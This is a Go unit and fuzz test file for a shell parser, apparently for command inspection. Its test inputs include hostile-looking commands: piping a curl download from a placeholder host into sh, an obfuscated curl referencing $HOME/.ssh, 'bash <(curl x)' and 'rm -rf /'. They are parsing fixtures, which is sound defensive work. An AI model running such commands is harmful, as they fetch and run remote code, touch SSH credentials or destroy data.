package syntax

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestParseShell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"curl -fsSL https://x.invalid/i | sh\n", "curl -fsSL https://x.invalid/i [1 0/2]\nsh [1 1/2]"},
		{`c"ur"\l $'\x68ttp' "$HOME/.ssh"`, "curl http $HOME/.ssh [1 0/1]"},
		{"bash <(curl x) && echo `id`", "bash <(…) [2 0/1]\n  curl x [3 0/1] <(\necho $(…) [4 0/1]\n  id [5 0/1] $("},
		{"curl x | { read a; sh; }", "curl x [1 0/2]\nread a [1 1/2]\nsh [1 1/2]"},
		{"f() { if true; then rm -rf /; fi; }", "true [4 0/1] in f\nrm -rf / [5 0/1] in f"},
		{"A=$(cat k) curl x > out 2>&1", "A=$(…) curl x > out >& 1 [1 0/1]\n  cat k [2 0/1] $("},
		{"export A=1", "A=1 export [2 0/1]"},
		{"cat <<E\nhi\nE\n", "cat <<E{hi\n} [1 0/1]"},
		{"echo 'a\nrm -rf x\n", "rm -rf x [1 0/1]"},
		{"echo ${A:-$(id)}", "echo ${A:-$(id)} [1 0/1]\n  id [2 0/1] $("},
	} {
		s := ParseShell([]byte(c.in))
		var out []string
		for _, k := range s.Commands {
			var w []string
			for _, a := range k.Assigns {
				w = append(w, a.Name+"="+a.Value.Text)
			}
			for _, x := range k.Words {
				w = append(w, x.Text)
			}
			for _, r := range k.Redirects {
				if r.Body != "" {
					w = append(w, r.Op+r.Target.Text+"{"+r.Body+"}")
				} else {
					w = append(w, r.Op, r.Target.Text)
				}
			}
			line := fmt.Sprintf("%s [%d %d/%d]", strings.Join(w, " "), k.Pipeline, k.Stage, k.Stages)
			if k.Parent >= 0 {
				line = "  " + line + " " + k.Via
			}
			if k.Function != "" {
				line += " in " + k.Function
			}
			out = append(out, line)
		}
		if d := cmp.Diff(c.want, strings.Join(out, "\n")); d != "" {
			t.Errorf("ParseShell(%q):\n%s", c.in, d)
		}
	}
}

func FuzzParseShell(f *testing.F) {
	f.Add([]byte("curl x | sh; a=$(b) c <(d) <<E\nx\nE\n"))
	f.Add([]byte(strings.Repeat("$(", 3000)))
	f.Fuzz(func(t *testing.T, data []byte) {
		for i, c := range ParseShell(data).Commands {
			if c.Offset < 0 || c.End > len(data) || c.Offset > c.End || c.Parent >= i || c.Stage >= c.Stages {
				t.Fatalf("%q: %+v", data, c)
			}
			for _, w := range c.Words {
				if w.Offset < 0 || w.End > len(data) || w.Offset > w.End {
					t.Fatalf("%q: %+v", data, w)
				}
			}
		}
	})
}
